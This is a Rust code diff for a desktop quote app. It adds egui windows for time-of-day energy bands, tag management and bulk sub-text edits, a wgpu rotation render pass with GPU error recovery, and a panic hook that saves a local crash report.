+/// "Match time of day" toggle and its table of energy bands (ROTATION)
+fn render_energy_bands(ui: &mut egui::Ui, state: &mut AppState) {
+    let mut changed = ui
+        .checkbox(&mut state.energy_matching, "Match energy to time of day")
+        .on_hover_text(
+            "A band's Calm or Intense quotes come up 3x as often in it and half as \
+             often outside; set a quote's energy with its row's 🌙/◌/⚡",
+        )
+        .changed();
+    if !state.energy_matching {
+        if changed {
+            state.save();
+        }
+        return;
+    }
+
+    let mut to_remove = None;
+    egui::Grid::new("energy_bands")
+        .num_columns(4)
+        .spacing(Vec2::new(6.0, 4.0))
+        .show(ui, |ui| {
+            for (idx, band) in state.energy_bands.iter_mut().enumerate() {
+                egui::ComboBox::from_id_salt(("energy_band_level", idx))
+                    .width(80.0)
+                    .selected_text(band.level.label())
+                    .show_ui(ui, |ui| {
+                        for level in EnergyLevel::ALL {
+                            changed |= ui
+                                .selectable_value(&mut band.level, level, level.label())
+                                .changed();
+                        }
+                    });
+                ui.horizontal(|ui| changed |= minute_of_day_edit(ui, &mut band.start_minute));
+                ui.horizontal(|ui| changed |= minute_of_day_edit(ui, &mut band.end_minute));
+                if ui.small_button("✕").on_hover_text("Remove band").clicked() {
+                    to_remove = Some(idx);
+                }
+                ui.end_row();
+            }
+        });
+    if let Some(idx) = to_remove {
+        state.energy_bands.remove(idx);
+        changed = true;
+    }
+    ui.horizontal(|ui| {
+        if ui.small_button("+ Band").clicked() {
+            state.energy_bands.push(EnergyBand {
+                level: EnergyLevel::Calm,
+                start_minute: 12 * 60,
+                end_minute: 14 * 60,
+            });
+            changed = true;
+        }
+        if ui.small_button("Defaults").clicked() {
+            state.energy_bands = default_energy_bands();
+            changed = true;
+        }
+    });
+    if changed {
+        state.save();
+    }
+}
+
+fn minute_of_day_edit(ui: &mut egui::Ui, minutes: &mut u32) -> bool {
+    let mut hour = *minutes / 60;
+    let mut minute = *minutes % 60;
+    let mut changed = ui
+        .add(
+            egui::DragValue::new(&mut hour)
+                .range(0..=23)
+                .custom_formatter(|n, _| format!("{:02}", n as u32)),
+        )
+        .changed();
+    ui.label(RichText::new(":").color(ui_fg(ui.visuals())));
+    changed |= ui
+        .add(
+            egui::DragValue::new(&mut minute)
+                .range(0..=59)
+                .custom_formatter(|n, _| format!("{:02}", n as u32)),
+        )
+        .changed();
+    *minutes = hour * 60 + minute;
+    changed
+}
+
+// =============================================================================
+// TAG MANAGER RENDERER
+// =============================================================================
+
+/// `#tag` badges as one text job, each tag on a tint of its own color
+fn tag_badges(state: &AppState, tags: &[String], size: f32) -> egui::text::LayoutJob {
+    let mut job = egui::text::LayoutJob::default();
+    for (i, tag) in tags.iter().enumerate() {
+        if i > 0 {
+            job.append(
+                " ",
+                0.0,
+                egui::TextFormat::simple(FontId::proportional(size), Color32::TRANSPARENT),
+            );
+        }
+        let color = state.tag_color(tag);
+        job.append(
+            &format!(" #{} ", tag),
+            0.0,
+            egui::TextFormat {
+                font_id: FontId::proportional(size),
+                color,
+                background: color.gamma_multiply(0.2),
+                ..Default::default()
+            },
+        );
+    }
+    job
+}
+
+/// Render the tag manager window: colors, rename, merge and delete
+pub fn render_tag_manager(ctx: &Context, state: &mut AppState) {
+    if !state.tag_manager_open {
+        return;
+    }
+
+    let mut open = true;
+    let mut recolor: Option<(String, Color32)> = None;
+    // (tag, new name); no new name deletes the tag
+    let mut to_retag: Option<(String, Option<String>)> = None;
+    let mut start_rename: Option<String> = None;
+    let mut cancel_rename = false;
+    let mut undo = false;
+    let mut show_tags_changed = false;
+    let tags = state.all_tags();
+
+    egui::Window::new("Tags")
+        .open(&mut open)
+        .collapsible(false)
+        .resizable(false)
+        .anchor(egui::Align2::CENTER_CENTER, Vec2::new(0.0, 0.0))
+        .fixed_size(Vec2::new(380.0, 420.0))
+        .frame(egui::Frame::window(&ctx.style()).fill(Color32::from_white_alpha(15)))
+        .show(ctx, |ui| {
+            if tags.is_empty() {
+                ui.label(
+                    RichText::new("No tags yet: give quotes some in the add form's Tags field")
+                        .color(Color32::GRAY)
+                        .size(11.0),
+                );
+            }
+            egui::ScrollArea::vertical()
+                .max_height(340.0)
+                .auto_shrink([false, true])
+                .show(ui, |ui| {
+                    for (tag, count) in &tags {
+                        ui.horizontal(|ui| {
+                            let mut color = state.tag_color(tag);
+                            if egui::color_picker::color_edit_button_srgba(
+                                ui,
+                                &mut color,
+                                egui::color_picker::Alpha::Opaque,
+                            )
+                            .changed()
+                            {
+                                recolor = Some((tag.clone(), color));
+                            }
+
+                            match &mut state.tag_rename {
+                                Some((renaming, name)) if renaming == tag => {
+                                    let resp = ui
+                                        .add(egui::TextEdit::singleline(name).desired_width(150.0));
+                                    let enter = resp.lost_focus()
+                                        && ui.input(|i| i.key_pressed(egui::Key::Enter));
+                                    if enter || ui.small_button("OK").clicked() {
+                                        to_retag = Some((tag.clone(), Some(name.clone())));
+                                    }
+                                    if ui.small_button("Cancel").clicked() {
+                                        cancel_rename = true;
+                                    }
+                                }
+                                _ => {
+                                    ui.label(
+                                        RichText::new(format!("#{}", tag)).color(color).size(12.0),
+                                    );
+                                    ui.label(
+                                        RichText::new(format!("({})", count))
+                                            .color(Color32::GRAY)
+                                            .size(10.0),
+                                    );
+                                    ui.with_layout(
+                                        egui::Layout::right_to_left(egui::Align::Center),
+                                        |ui| {
+                                            let del_btn = ui.add(
+                                                egui::Button::new(
+                                                    RichText::new("Delete")
+                                                        .color(Color32::WHITE)
+                                                        .size(10.0),
+                                                )
+                                                .fill(Color32::from_rgb(255, 70, 70)),
+                                            );
+                                            if del_btn
+                                                .on_hover_text("Remove it from every quote")
+                                                .clicked()
+                                            {
+                                                to_retag = Some((tag.clone(), None));
+                                            }
+                                            ui.add_enabled_ui(tags.len() > 1, |ui| {
+                                                ui.menu_button("Merge into ▸", |ui| {
+                                                    for (other, _) in
+                                                        tags.iter().filter(|(t, _)| t != tag)
+                                                    {
+                                                        if ui
+                                                            .button(format!("#{}", other))
+                                                            .clicked()
+                                                        {
+                                                            to_retag = Some((
+                                                                tag.clone(),
+                                                                Some(other.clone()),
+                                                            ));
+                                                            ui.close_menu();
+                                                        }
+                                                    }
+                                                });
+                                            });
+                                            if ui.small_button("Rename").clicked() {
+                                                start_rename = Some(tag.clone());
+                                            }
+                                        },
+                                    );
+                                }
+                            }
+                        });
+                    }
+                });
+
+            ui.separator();
+            ui.horizontal(|ui| {
+                undo = ui
+                    .add_enabled(!state.tag_undo.is_empty(), egui::Button::new("↶ Undo"))
+                    .on_hover_text("Undo the last rename, merge or delete")
+                    .clicked();
+                show_tags_changed = ui
+                    .checkbox(&mut state.show_quote_tags, "Show tags under the quote")
+                    .changed();
+            });
+        });
+
+    if let Some((tag, color)) = recolor {
+        state.set_tag_color(&tag, color);
+    }
+    state.commit_tag_color(ctx.input(|i| i.pointer.any_down()));
+    if let Some(tag) = start_rename {
+        state.tag_rename = Some((tag.clone(), tag));
+    }
+    if cancel_rename {
+        state.tag_rename = None;
+    }
+    if let Some((tag, new_name)) = to_retag {
+        state.tag_rename = None;
+        state.retag(&tag, new_name.as_deref());
+    }
+    if undo {
+        state.undo_tags();
+    }
+    if show_tags_changed {
+        state.save();
+    }
+    if !open {
+        state.tag_manager_open = false;
+        state.tag_rename = None;
+    }
+}
+
+/// Render the repeated sub texts window: quotes grouped by an identical sub
+/// text, with bulk clear and replace for each group
+pub fn render_sub_text_tool(ctx: &Context, state: &mut AppState) {
+    if !state.sub_text_tool_open {
+        return;
+    }
+
+    let mut open = true;
+    // (group's sub text, new sub text); empty clears it
+    let mut to_set: Option<(String, String)> = None;
+    let mut start_edit: Option<String> = None;
+    let mut cancel_edit = false;
+    let mut undo = false;
+    let groups = state.repeated_sub_texts();
+
+    egui::Window::new("Repeated sub texts")
+        .open(&mut open)
+        .collapsible(false)
+        .resizable(false)
+        .anchor(egui::Align2::CENTER_CENTER, Vec2::new(0.0, 0.0))
+        .fixed_size(Vec2::new(420.0, 420.0))
+        .frame(egui::Frame::window(&ctx.style()).fill(Color32::from_white_alpha(15)))
+        .show(ctx, |ui| {
+            if groups.is_empty() {
+                ui.label(
+                    RichText::new("No two quotes in this collection share a sub text")
+                        .color(Color32::GRAY)
+                        .size(11.0),
+                );
+            }
+            egui::ScrollArea::vertical()
+                .max_height(340.0)
+                .auto_shrink([false, true])
+                .show(ui, |ui| {
+                    for (sub_text, members) in &groups {
+                        ui.horizontal(|ui| {
+                            // Hover the count for the quotes in the group
+                            let quotes = members
+                                .iter()
+                                .take(10)
+                                .map(|&i| ellipsize(&state.quotes[i].main_text, 60).into_owned())
+                                .collect::<Vec<_>>()
+                                .join("\n");
+                            let more = members.len().saturating_sub(10);
+                            let quotes = if more > 0 {
+                                format!("{}\n… and {} more", quotes, more)
+                            } else {
+                                quotes
+                            };
+                            ui.label(
+                                RichText::new(format!("{}×", members.len()))
+                                    .color(state.theme.accents().secondary)
+                                    .size(11.0),
+                            )
+                            .on_hover_text(quotes);
+
+                            match &mut state.sub_text_edit {
+                                Some((editing, text)) if editing == sub_text => {
+                                    let resp = ui
+                                        .add(egui::TextEdit::singleline(text).desired_width(220.0));
+                                    let enter = resp.lost_focus()
+                                        && ui.input(|i| i.key_pressed(egui::Key::Enter));
+                                    if enter || ui.small_button("OK").clicked() {
+                                        to_set = Some((sub_text.clone(), text.clone()));
+                                    }
+                                    if ui.small_button("Cancel").clicked() {
+                                        cancel_edit = true;
+                                    }
+                                }
+                                _ => {
+                                    ui.label(
+                                        RichText::new(ellipsize(sub_text, 40))
+                                            .color(ui_fg(ui.visuals()))
+                                            .size(11.0),
+                                    )
+                                    .on_hover_text(sub_text);
+                                    ui.with_layout(
+                                        egui::Layout::right_to_left(egui::Align::Center),
+                                        |ui| {
+                                            if ui
+                                                .small_button("Clear")
+                                                .on_hover_text("Remove it from these quotes")
+                                                .clicked()
+                                            {
+                                                to_set = Some((sub_text.clone(), String::new()));
+                                            }
+                                            if ui
+                                                .small_button("Set to…")
+                                                .on_hover_text("Give these quotes another sub text")
+                                                .clicked()
+                                            {
+                                                start_edit = Some(sub_text.clone());
+                                            }
+                                        },
+                                    );
+                                }
+                            }
+                        });
+                    }
+                });
+
+            ui.separator();
+            undo = ui
+                .add_enabled(!state.sub_text_undo.is_empty(), egui::Button::new("↶ Undo"))
+                .on_hover_text("Undo the last clear or change")
+                .clicked();
+        });
+
+    if let Some(sub_text) = start_edit {
+        state.sub_text_edit = Some((sub_text.clone(), sub_text));
+    }
+    if cancel_edit {
+        state.sub_text_edit = None;
+    }
+    if let Some((from, to)) = to_set {
+        state.sub_text_edit = None;
+        state.set_group_sub_text(&from, &to);
+    }
+    if undo {
+        state.undo_sub_texts();
+    }
+    if !open {
+        state.sub_text_tool_open = false;
+        state.sub_text_edit = None;
+    }
+}
+
+// =============================================================================
+// WGUP RENDER STATE
+// =============================================================================
+
+#[allow(dead_code)]
+struct WgpuRenderState<'a> {
+    device: wgpu::Device,
+    queue: wgpu::Queue,
+    surface: wgpu::Surface<'a>,
+    surface_config: wgpu::SurfaceConfiguration,
+    renderer: egui_wgpu::Renderer,
+    // Set from the device-lost callback; the next `paint` reports it
+    // instead of touching the device
+    device_error: std::sync::Arc<std::sync::Mutex<Option<String>>>,
+    // Surface size relative to the window, below 1 after running out of memory
+    surface_scale: f32,
+    // Built on the first turned frame (see `ContentRotation`)
+    rotation_pass: Option<RotationPass>,
+}
+
+/// Draws the turned frame: egui renders into `target`, which a textured
+/// quad then puts on the surface at the frame's angle and scale
+struct RotationPass {
+    pipeline: wgpu::RenderPipeline,
+    bind_group_layout: wgpu::BindGroupLayout,
+    sampler: wgpu::Sampler,
+    // cos, sin, scale, unused, half the target size, half the surface size
+    params: wgpu::Buffer,
+    // Size in pixels, the view egui draws into and its bind group
+    target: Option<([u32; 2], wgpu::TextureView, wgpu::BindGroup)>,
+}
+
+const ROTATION_SHADER: &str = r#"
+struct Params {
+    turn: vec4<f32>,
+    sizes: vec4<f32>,
+}
+
+@group(0) @binding(0) var<uniform> params: Params;
+@group(0) @binding(1) var frame: texture_2d<f32>;
+@group(0) @binding(2) var frame_sampler: sampler;
+
+struct VertexOut {
+    @builtin(position) position: vec4<f32>,
+    @location(0) uv: vec2<f32>,
+}
+
+@vertex
+fn vs_main(@builtin(vertex_index) index: u32) -> VertexOut {
+    let uv = vec2<f32>(f32(index & 1u), f32(index >> 1u));
+    // Corner from the frame center in pixels, y down like the screen
+    let corner = (uv * 2.0 - 1.0) * params.sizes.xy * params.turn.z;
+    let turned = vec2<f32>(
+        corner.x * params.turn.x - corner.y * params.turn.y,
+        corner.x * params.turn.y + corner.y * params.turn.x,
+    );
+    var out: VertexOut;
+    out.position = vec4<f32>(turned / params.sizes.zw * vec2<f32>(1.0, -1.0), 0.0, 1.0);
+    out.uv = uv;
+    return out;
+}
+
+@fragment
+fn fs_main(in: VertexOut) -> @location(0) vec4<f32> {
+    return textureSample(frame, frame_sampler, in.uv);
+}
+"#;
+
+impl RotationPass {
+    fn new(device: &wgpu::Device, format: wgpu::TextureFormat) -> Self {
+        let shader = device.create_shader_module(wgpu::ShaderModuleDescriptor {
+            label: Some("rotation_shader"),
+            source: wgpu::ShaderSource::Wgsl(ROTATION_SHADER.into()),
+        });
+        let bind_group_layout = device.create_bind_group_layout(&wgpu::BindGroupLayoutDescriptor {
+            label: Some("rotation_bind_group_layout"),
+            entries: &[
+                wgpu::BindGroupLayoutEntry {
+                    binding: 0,
+                    visibility: wgpu::ShaderStages::VERTEX,
+                    ty: wgpu::BindingType::Buffer {
+                        ty: wgpu::BufferBindingType::Uniform,
+                        has_dynamic_offset: false,
+                        min_binding_size: None,
+                    },
+                    count: None,
+                },
+                wgpu::BindGroupLayoutEntry {
+                    binding: 1,
+                    visibility: wgpu::ShaderStages::FRAGMENT,
+                    ty: wgpu::BindingType::Texture {
+                        sample_type: wgpu::TextureSampleType::Float { filterable: true },
+                        view_dimension: wgpu::TextureViewDimension::D2,
+                        multisampled: false,
+                    },
+                    count: None,
+                },
+                wgpu::BindGroupLayoutEntry {
+                    binding: 2,
+                    visibility: wgpu::ShaderStages::FRAGMENT,
+                    ty: wgpu::BindingType::Sampler(wgpu::SamplerBindingType::Filtering),
+                    count: None,
+                },
+            ],
+        });
+        let layout = device.create_pipeline_layout(&wgpu::PipelineLayoutDescriptor {
+            label: Some("rotation_pipeline_layout"),
+            bind_group_layouts: &[&bind_group_layout],
+            push_constant_ranges: &[],
+        });
+        let pipeline = device.create_render_pipeline(&wgpu::RenderPipelineDescriptor {
+            label: Some("rotation_pipeline"),
+            layout: Some(&layout),
+            vertex: wgpu::VertexState {
+                module: &shader,
+                entry_point: "vs_main",
+                compilation_options: Default::default(),
+                buffers: &[],
+            },
+            primitive: wgpu::PrimitiveState {
+                topology: wgpu::PrimitiveTopology::TriangleStrip,
+                ..Default::default()
+            },
+            depth_stencil: None,
+            multisample: wgpu::MultisampleState::default(),
+            // The quad replaces the cleared surface; egui already blended
+            fragment: Some(wgpu::FragmentState {
+                module: &shader,
+                entry_point: "fs_main",
+                compilation_options: Default::default(),
+                targets: &[Some(wgpu::ColorTargetState {
+                    format,
+                    blend: None,
+                    write_mask: wgpu::ColorWrites::ALL,
+                })],
+            }),
+            multiview: None,
+            cache: None,
+        });
+        let sampler = device.create_sampler(&wgpu::SamplerDescriptor {
+            label: Some("rotation_sampler"),
+            mag_filter: wgpu::FilterMode::Linear,
+            min_filter: wgpu::FilterMode::Linear,
+            ..Default::default()
+        });
+        let params = device.create_buffer(&wgpu::BufferDescriptor {
+            label: Some("rotation_params"),
+            size: 32,
+            usage: wgpu::BufferUsages::UNIFORM | wgpu::BufferUsages::COPY_DST,
+            mapped_at_creation: false,
+        });
+        Self {
+            pipeline,
+            bind_group_layout,
+            sampler,
+            params,
+            target: None,
+        }
+    }
+
+    /// (Re)make the texture egui draws into when the size changes
+    fn ensure_target(
+        &mut self,
+        device: &wgpu::Device,
+        format: wgpu::TextureFormat,
+        size: [u32; 2],
+    ) {
+        if self.target.as_ref().map(|(s, ..)| *s) != Some(size) {
+            let texture = device.create_texture(&wgpu::TextureDescriptor {
+                label: Some("rotation_target"),
+                size: wgpu::Extent3d {
+                    width: size[0],
+                    height: size[1],
+                    depth_or_array_layers: 1,
+                },
+                mip_level_count: 1,
+                sample_count: 1,
+                dimension: wgpu::TextureDimension::D2,
+                format,
+                usage: wgpu::TextureUsages::RENDER_ATTACHMENT
+                    | wgpu::TextureUsages::TEXTURE_BINDING,
+                view_formats: &[],
+            });
+            let view = texture.create_view(&wgpu::TextureViewDescriptor::default());
+            let bind_group = device.create_bind_group(&wgpu::BindGroupDescriptor {
+                label: Some("rotation_bind_group"),
+                layout: &self.bind_group_layout,
+                entries: &[
+                    wgpu::BindGroupEntry {
+                        binding: 0,
+                        resource: self.params.as_entire_binding(),
+                    },
+                    wgpu::BindGroupEntry {
+                        binding: 1,
+                        resource: wgpu::BindingResource::TextureView(&view),
+                    },
+                    wgpu::BindGroupEntry {
+                        binding: 2,
+                        resource: wgpu::BindingResource::Sampler(&self.sampler),
+                    },
+                ],
+            });
+            self.target = Some((size, view, bind_group));
+        }
+    }
+
+    /// Clear `view` and put the frame from `target` on it, turned and scaled
+    fn draw(
+        &self,
+        encoder: &mut wgpu::CommandEncoder,
+        view: &wgpu::TextureView,
+        clear: wgpu::Color,
+    ) {
+        let Some((_, _, bind_group)) = &self.target else {
+            return;
+        };
+        let mut render_pass = encoder.begin_render_pass(&wgpu::RenderPassDescriptor {
+            label: Some("rotation_render"),
+            color_attachments: &[Some(wgpu::RenderPassColorAttachment {
+                view,
+                resolve_target: None,
+                ops: wgpu::Operations {
+                    load: wgpu::LoadOp::Clear(clear),
+                    store: wgpu::StoreOp::Store,
+                },
+            })],
+            depth_stencil_attachment: None,
+            timestamp_writes: None,
+            occlusion_query_set: None,
+        });
+        render_pass.set_pipeline(&self.pipeline);
+        render_pass.set_bind_group(0, bind_group, &[]);
+        render_pass.draw(0..4, 0..1);
+    }
+}
+
+/// What became of a `paint` call
+#[derive(Debug)]
+enum PaintOutcome {
+    Presented,
+    // No frame this time (timeout, or the surface was just reconfigured)
+    Skipped,
+    // Out of GPU memory: the surface was shrunk to this scale
+    Downscaled(f32),
+    // The device is gone; the whole render state has to be recreated
+    DeviceError(String),
+}
+
+#[allow(dead_code)]
+impl<'a> WgpuRenderState<'a> {
+    async fn new(window: &'a Window) -> Result<WgpuRenderState<'a>, String> {
+        let instance = wgpu::Instance::new(wgpu::InstanceDescriptor {
+            backends: wgpu::Backends::all(),
+            dx12_shader_compiler: Default::default(),
+            flags: wgpu::InstanceFlags::empty(),
+            gles_minor_version: wgpu::Gles3MinorVersion::Automatic,
+        });
+
+        let surface = instance
+            .create_surface(window)
+            .map_err(|e| format!("Failed to create surface: {}", e))?;
+
+        let adapter = instance
+            .request_adapter(&wgpu::RequestAdapterOptions {
+                power_preference: wgpu::PowerPreference::LowPower,
+                compatible_surface: Some(&surface),
+                force_fallback_adapter: false,
+            })
+            .await
+            .ok_or_else(|| "Failed to request adapter".to_string())?;
+
+        let (device, queue) = adapter
+            .request_device(
+                &wgpu::DeviceDescriptor {
+                    label: Some("device"),
+                    required_features: wgpu::Features::empty(),
+                    required_limits: adapter.limits(),
+                    memory_hints: wgpu::MemoryHints::default(),
+                },
+                None,
+            )
+            .await
+            .map_err(|e| format!("Failed to request device: {}", e))?;
+
+        let size = window.inner_size();
+        let capabilities = surface.get_capabilities(&adapter);
+        let format = capabilities
+            .formats
+            .first()
+            .copied()
+            .unwrap_or(wgpu::TextureFormat::Bgra8UnormSrgb);
+
+        let surface_config = wgpu::SurfaceConfiguration {
+            usage: wgpu::TextureUsages::RENDER_ATTACHMENT,
+            format,
+            width: size.width,
+            height: size.height,
+            present_mode: wgpu::PresentMode::Fifo,
+            alpha_mode: wgpu::CompositeAlphaMode::Auto,
+            view_formats: vec![],
+            desired_maximum_frame_latency: 2,
+        };
+
+        surface.configure(&device, &surface_config);
+
+        let device_error = std::sync::Arc::new(std::sync::Mutex::new(None));
+        // A validation error spoils one frame at most; only a lost device
+        // means starting over
+        device.on_uncaptured_error(Box::new(|error| {
+            log_to_file(&format!("wgpu error: {error}"));
+        }));
+        let report = device_error.clone();
+        device.set_device_lost_callback(move |reason, message| {
+            log_to_file(&format!("wgpu device lost ({reason:?}): {message}"));
+            // Dropped/ReplacedCallback are this state going away on purpose
+            if matches!(
+                reason,
+                wgpu::DeviceLostReason::Dropped | wgpu::DeviceLostReason::ReplacedCallback
+            ) {
+                return;
+            }
+            if let Ok(mut slot) = report.lock() {
+                slot.get_or_insert_with(|| format!("device lost: {message}"));
+            }
+        });
+
+        // Renderer::new now takes 5 arguments: device, format, depth_texture, msaa_samples, debug
+        let renderer = egui_wgpu::Renderer::new(&device, format, None, 1, false);
+
+        Ok(Self {
+            device,
+            queue,
+            surface,
+            surface_config,
+            renderer,
+            device_error,
+            surface_scale: 1.0,
+            rotation_pass: None,
+        })
+    }
+
+    fn resize(&mut self, new_size: winit::dpi::PhysicalSize<u32>) {
+        if new_size.width > 0 && new_size.height > 0 {
+            let scaled = |len: u32| ((len as f32 * self.surface_scale).round() as u32).max(1);
+            self.surface_config.width = scaled(new_size.width);
+            self.surface_config.height = scaled(new_size.height);
+            self.surface.configure(&self.device, &self.surface_config);
+        }
+    }
+
+    /// Halve the surface (down to GPU_MIN_SURFACE_SCALE) after running out
+    /// of memory; the compositor stretches it back over the window. None
+    /// when it's already as small as it goes.
+    fn shrink_surface(&mut self) -> Option<f32> {
+        if self.surface_scale <= GPU_MIN_SURFACE_SCALE {
+            return None;
+        }
+        let window_size = winit::dpi::PhysicalSize::new(
+            (self.surface_config.width as f32 / self.surface_scale).round() as u32,
+            (self.surface_config.height as f32 / self.surface_scale).round() as u32,
+        );
+        self.surface_scale = (self.surface_scale * 0.5).max(GPU_MIN_SURFACE_SCALE);
+        self.resize(window_size);
+        Some(self.surface_scale)
+    }
+
+    /// Upload `textures_delta` and draw tessellated egui output over `clear`,
+    /// turned by `rotation` if it's not upright
+    fn paint(
+        &mut self,
+        paint_jobs: &[egui::ClippedPrimitive],
+        textures_delta: &egui::TexturesDelta,
+        pixels_per_point: f32,
+        clear: Color32,
+        rotation: Option<ContentRotation>,
+    ) -> PaintOutcome {
+        // A lost device would panic further down (in update_buffers)
+        if let Some(error) = self.device_error.lock().ok().and_then(|e| e.clone()) {
+            return PaintOutcome::DeviceError(error);
+        }
+        // egui hands over each texture change once, so they go in even when
+        // no frame can be drawn; skipping one would lose the texture for good
+        for (id, image_delta) in &textures_delta.set {
+            self.renderer
+                .update_texture(&self.device, &self.queue, *id, image_delta);
+        }
+        let frame = match self.surface.get_current_texture() {
+            Ok(frame) => frame,
+            Err(error) => {
+                for id in &textures_delta.free {
+                    self.renderer.free_texture(id);
+                }
+                return match error {
+                    wgpu::SurfaceError::Timeout => PaintOutcome::Skipped,
+                    wgpu::SurfaceError::OutOfMemory => self
+                        .shrink_surface()
+                        .map_or(PaintOutcome::Skipped, PaintOutcome::Downscaled),
+                    // Lost or outdated (driver reset, iGPU/dGPU switch):
+                    // configure it from scratch and draw again next frame
+                    _ => {
+                        self.surface.configure(&self.device, &self.surface_config);
+                        PaintOutcome::Skipped
+                    }
+                };
+            }
+        };
+        let pixels_per_point = pixels_per_point * self.surface_scale;
+
+        let view = frame
+            .texture
+            .create_view(&wgpu::TextureViewDescriptor::default());
+
+        let surface_size = [self.surface_config.width, self.surface_config.height];
+        let rotation = rotation.filter(|r| !r.is_identity());
+        // Turned frames are laid out at the swapped size after odd turns
+        let frame_size = match rotation {
+            Some(r) if r.quarter_turns % 2 == 1 => [surface_size[1], surface_size[0]],
+            _ => surface_size,
+        };
+        let screen_descriptor = egui_wgpu::ScreenDescriptor {
+            size_in_pixels: frame_size,
+            pixels_per_point,
+        };
+
+        let mut encoder = self
+            .device
+            .create_command_encoder(&wgpu::CommandEncoderDescriptor::default());
+
+        self.renderer.update_buffers(
+            &self.device,
+            &self.queue,
+            &mut encoder,
+            paint_jobs,
+            &screen_descriptor,
+        );
+
+        let clear_color = wgpu::Color {
+            r: clear.r() as f64 / 255.0,
+            g: clear.g() as f64 / 255.0,
+            b: clear.b() as f64 / 255.0,
+            a: clear.a() as f64 / 255.0,
+        };
+
+        let format = self.surface_config.format;
+        let pass = match rotation {
+            Some(rotation) => {
+                let pass = self
+                    .rotation_pass
+                    .get_or_insert_with(|| RotationPass::new(&self.device, format));
+                let (sin, cos) = rotation.angle.sin_cos();
+                let params = [
+                    cos,
+                    sin,
+                    rotation.scale,
+                    0.0,
+                    frame_size[0] as f32 / 2.0,
+                    frame_size[1] as f32 / 2.0,
+                    surface_size[0] as f32 / 2.0,
+                    surface_size[1] as f32 / 2.0,
+                ];
+                let bytes: Vec<u8> = params.iter().flat_map(|v| v.to_le_bytes()).collect();
+                self.queue.write_buffer(&pass.params, 0, &bytes);
+                pass.ensure_target(&self.device, format, frame_size);
+                Some(&*pass)
+            }
+            None => None,
+        };
+        let egui_view = match pass.and_then(|p| p.target.as_ref()) {
+            Some((_, target, _)) => target,
+            None => &view,
+        };
+
+        {
+            let render_pass = encoder.begin_render_pass(&wgpu::RenderPassDescriptor {
+                label: Some("egui_render"),
+                color_attachments: &[Some(wgpu::RenderPassColorAttachment {
+                    view: egui_view,
+                    resolve_target: None,
+                    ops: wgpu::Operations {
+                        load: wgpu::LoadOp::Clear(clear_color),
+                        store: wgpu::StoreOp::Store,
+                    },
+                })],
+                depth_stencil_attachment: None,
+                timestamp_writes: None,
+                occlusion_query_set: None,
+            });
+            let mut render_pass = render_pass.forget_lifetime();
+            self.renderer
+                .render(&mut render_pass, paint_jobs, &screen_descriptor);
+        }
+
+        if let Some(pass) = pass {
+            pass.draw(&mut encoder, &view, clear_color);
+        }
+
+        self.queue.submit(Some(encoder.finish()));
+        frame.present();
+
+        for id in &textures_delta.free {
+            self.renderer.free_texture(id);
+        }
+        PaintOutcome::Presented
+    }
+}
+
+// =============================================================================
+// CRASH REPORTS
+// =============================================================================
+
+/// A panic writes a JSON report to CRASH_DIR: the message and where it
+/// happened, a backtrace, the version, the end of debug.log and the quotes
+/// as they were in memory, since writing settings.json may be what failed.
+/// The next launch offers the newest one in a toast.
+mod crash_report {
+    use super::{log_to_file, AppConfig, Collection, Quote, CRASH_DIR, CRASH_LOG_LINES};
+    use serde::Serialize;
+    use std::path::PathBuf;
+    use std::sync::Mutex;
+
+    /// The quotes as of the last save (taken over from the config written)
+    #[derive(Serialize)]
+    struct QuoteSnapshot {
+        collections: Vec<Collection>,
+        archived: Vec<Quote>,
+        pending: Vec<Quote>,
+    }
+
+    static QUOTES: Mutex<Option<QuoteSnapshot>> = Mutex::new(None);
+
+    /// Keep `config`'s quotes for a report, once it's been saved
+    pub fn remember(config: AppConfig) {
+        if let Ok(mut quotes) = QUOTES.lock() {
+            *quotes = Some(QuoteSnapshot {
+                collections: config.collections,
+                archived: config.archived,
+                pending: config.pending,
+            });
+        }
+    }
+
+    /// Write a report for any panic, then point the user at it
+    pub fn install() {
+        let default_hook = std::panic::take_hook();
+        std::panic::set_hook(Box::new(move |info| {
+            default_hook(info);
+            let payload = info.payload();
+            let message = payload
+                .downcast_ref::<&str>()
+                .map(|m| m.to_string())
+                .or_else(|| payload.downcast_ref::<String>().cloned())
+                .unwrap_or_else(|| "(no message)".to_string());
+            let location = info.location().map(|l| l.to_string()).unwrap_or_default();
+            match write(&message, &location) {
+                Ok(path) => {
+                    log_to_file(&format!("Crash report written to {}", path.display()));
+                    let _ = rfd::MessageDialog::new()
+                        .set_level(rfd::MessageLevel::Error)
+                        .set_title("Daily Motivation crashed")
+                        .set_description(format!(
+                            "{}\n\nA report with a copy of your quotes was saved to\n{}",
+                            message,
+                            path.display()
+                        ))
+                        .set_buttons(rfd::MessageButtons::Ok)
+                        .show();
+                }
+                Err(e) => log_to_file(&format!("Could not write a crash report: {}", e)),
+            }
+        }));
+    }
+
+    fn write(message: &str, location: &str) -> std::io::Result<PathBuf> {
+        let log = std::fs::read_to_string("debug.log").unwrap_or_default();
+        let lines: Vec<&str> = log.lines().collect();
+        let log_tail = &lines[lines.len().saturating_sub(CRASH_LOG_LINES)..];
+        // Never wait on the lock: the panic may have happened while it was held
+        let quotes = QUOTES.try_lock().ok();
+        let now = chrono::Local::now();
+        let report = serde_json::json!({
+            "version": env!("CARGO_PKG_VERSION"),
+            "time": now.to_rfc3339(),
+            "thread": std::thread::current().name().unwrap_or("unnamed"),
+            "message": message,
+            "location": location,
+            "backtrace": std::backtrace::Backtrace::force_capture().to_string(),
+            "log": log_tail,
+            "quotes": quotes.as_deref(),
+        });
+
+        std::fs::create_dir_all(CRASH_DIR)?;
+        let name = format!("crash-{}.json", now.format("%Y%m%d-%H%M%S"));
+        let path = PathBuf::from(CRASH_DIR).join(name);
+        let json = serde_json::to_string_pretty(&report).map_err(std::io::Error::other)?;
+        std::fs::write(&path, json)?;
+        Ok(path)
+    }
+
+    /// File name of the newest report in `dir` (names sort by time)
+    pub fn newest(dir: &str) -> Option<String> {
+        std::fs::read_dir(dir)
+            .ok()?
+            .flatten()
+            .filter_map(|entry| entry.file_name().into_string().ok())
+            .filter(|name| name.starts_with("crash-") && name.ends_with(".json"))
+            .max()
+    }
+
+    /// Show CRASH_DIR in the file manager
+    pub fn open_folder() {
+        let dir = std::fs::canonicalize(CRASH_DIR).unwrap_or_else(|_| PathBuf::from(CRASH_DIR));
+        let opener = if cfg!(windows) {
+            "explorer"
+        } else if cfg!(target_os = "macos") {
+            "open"
+        } else {
+            "xdg-open"
+        };
+        if let Err(e) = std::process::Command::new(opener).arg(&dir).spawn() {
+            log_to_file(&format!("Could not open {}: {}", dir.display(), e));
+        }
+    }
